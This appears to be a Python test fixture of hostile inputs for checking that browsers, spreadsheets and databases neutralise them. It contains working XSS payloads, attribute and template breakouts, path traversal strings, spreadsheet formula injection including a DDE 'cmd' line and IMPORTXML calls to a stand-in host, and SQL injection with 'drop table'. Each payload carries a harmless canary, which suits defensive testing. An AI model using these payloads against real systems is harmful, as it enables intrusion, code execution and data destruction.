"""Texts that somebody might put into a cell to make a browser, a spreadsheet or a database act. Each tells on itself.

What a text would make carries the mark: an element `x-ill`, an attribute `ill`, a property `ill` of the window.
"""

MARK = "ill"
WAKE = "window.ill=1"

MARKUP = f"""
<script>{WAKE}</script>
<ScRiPt>{WAKE}</sCrIpT>
<script src=//{MARK}.invalid/x.js></script>
<script >{WAKE}</script >
<<script>{WAKE};//<</script>
<scr<script>ipt>{WAKE}</scr</script>ipt>
<x-ill>made</x-ill>
<x-ill ill=1 style=position:fixed;inset:0>over all
<img ill src=x onerror={WAKE}>
<img ill src=`x` onerror={WAKE}>
<image/ill/src=x/onerror={WAKE}>
<svg ill onload={WAKE}>
<svg ill><script>{WAKE}</script></svg>
<svg ill><animate onbegin={WAKE} attributeName=x dur=1s>
<svg ill><use href="data:image/svg+xml,<svg id='x' onload='{WAKE}'/>#x"/></svg>
<math ill><mtext></form><form><mglyph><style></math><img src onerror={WAKE}>
<iframe ill srcdoc="<script>parent.ill=1</script>"></iframe>
<iframe ill src=javascript:parent.ill=1></iframe>
<body ill onload={WAKE}>
<input ill autofocus onfocus={WAKE}>
<details ill open ontoggle={WAKE}>
<video ill><source onerror={WAKE}></video>
<marquee ill onstart={WAKE}>x</marquee>
<object ill data="javascript:{WAKE}">
<embed ill src="javascript:{WAKE}">
<base ill href=//{MARK}.invalid/>
<link ill rel=stylesheet href=//{MARK}.invalid/x.css>
<meta ill http-equiv=refresh content=0;url=//{MARK}.invalid/>
<style ill>*{{display:none!important}}</style>
<form ill action=//{MARK}.invalid/><button>send
<template ill shadowrootmode=open><script>{WAKE}</script></template>
<a ill href="javascript:{WAKE}">follow</a>
<a ill href="data:text/html,<script>opener.ill=1</script>">follow</a>
<a ill href="//{MARK}.invalid/">follow</a>
<b ill>bold</b><i ill>slanted</i><br><br>
<span ill style="font-size:99px;color:red">large</span>
<extra>ill</extra>
"""

BREAKS = f"""
"><x-ill>made</x-ill>
'><x-ill>made</x-ill>
" ill="1" onmouseover="{WAKE}" x="
' ill='1' onmouseover='{WAKE}' x='
` ill=1 onmouseover={WAKE} x=`
</title><x-ill>made</x-ill>
</style><x-ill>made</x-ill>
</script><script>{WAKE}</script>
</textarea><x-ill>made</x-ill>
</option></select><x-ill>made</x-ill>
</svg></p></div></main><x-ill>made</x-ill>
]]><x-ill>made</x-ill>
--><x-ill>made</x-ill><!--
<!--<x-ill>-->
<![CDATA[<x-ill>made</x-ill>]]>
<?xml version="1.0"?><x-ill/>
&lt;x-ill&gt;made&lt;/x-ill&gt;
&#60;x-ill&#62;made&#60;/x-ill&#62;
&amp;lt;x-ill&amp;gt;made
&quot;&gt;&lt;x-ill ill=1&gt;
\\u003cx-ill\\u003emade
\\x3cx-ill\\x3emade
%3Cx-ill%3Emade%3C/x-ill%3E
＜x-ill＞made＜/x-ill＞
*/}}</style><x-ill>made</x-ill>
";{WAKE};//
';{WAKE};//
"""

TEMPLATES = f"""
${{{WAKE}}}
{{{{constructor.constructor('{WAKE}')()}}}}
{{% raw %}}<x-ill>{{% endraw %}}
<%= {WAKE} %>
#{{7*7}}
%{{x}} %{{customdata[0]}} %{{fullData.name}}
%s %d %(name)s {{0}} {{name}} $name ${{title}}
$\\href{{javascript:{WAKE}}}{{x}}$
[follow](javascript:{WAKE})
![x](x"onerror="{WAKE})
:material/home: :red[loud] $$x^2$$ `code`
javascript:{WAKE}
JaVaScRiPt:{WAKE}
data:text/html,<script>{WAKE}</script>
//{MARK}.invalid/x
http://{MARK}.invalid/
../../../../etc/passwd
..\\..\\windows\\win.ini
?q=<x-ill>&c=FRA#"><x-ill>
"""

FORMULAS = """
=1+1
+1+1
-1+1
@SUM(A1)
=HYPERLINK("http://ill.invalid/","follow")
=cmd|'/C calc'!A0
=IMPORTXML("http://ill.invalid/","//a")
＝1+1
'=1+1
"=1+1"
;=1+1
,=1+1
"""

SQL = """
'; drop table pledges; --
' or 1=1 --
" union select * from pledges --
$1 ?1 :x $day
/* */ select 1
Robert'); delete from statements;--
"""

SIGNS = (
    "e\u0301\u0327\u0308" * 8,
    "Z̸̢͍a̷̫͌l̶̰̎g̸̣͝o̵͖͂",
    "🇺🇦🔥👩🏽",
    "שלום עולם and مرحبا",
    "x\u00a0y\u2003z\u3000w",
    "a\tb",
    "a\u0085b\u2028c\u2029d",
    "a\x7fb\x80c\x9fd",
    "a\uffffb\ufdd0c\ufffdd",
    "\U0001f600\U0010ffff",
    "W" * 400,
    "ﷺ" * 40,
    "\\",
    "NULL",
    "null",
    "NaN",
    "undefined",
    "0",
    "-0",
    "1e999",
    "true",
    "_x000D_ _x0041_",
)


def lines(text: str) -> tuple[str, ...]:
    """The texts of a list, one a line."""
    return tuple(text.strip().split("\n"))


SCRIPTS = (*lines(MARKUP), *lines(BREAKS), *lines(TEMPLATES))
CORPUS = (*SCRIPTS, *lines(FORMULAS), *lines(SQL), *SIGNS)
ADDRESSES = tuple(f"https://news.example/{at}/" + "".join(text.split()) for at, text in enumerate(SCRIPTS))
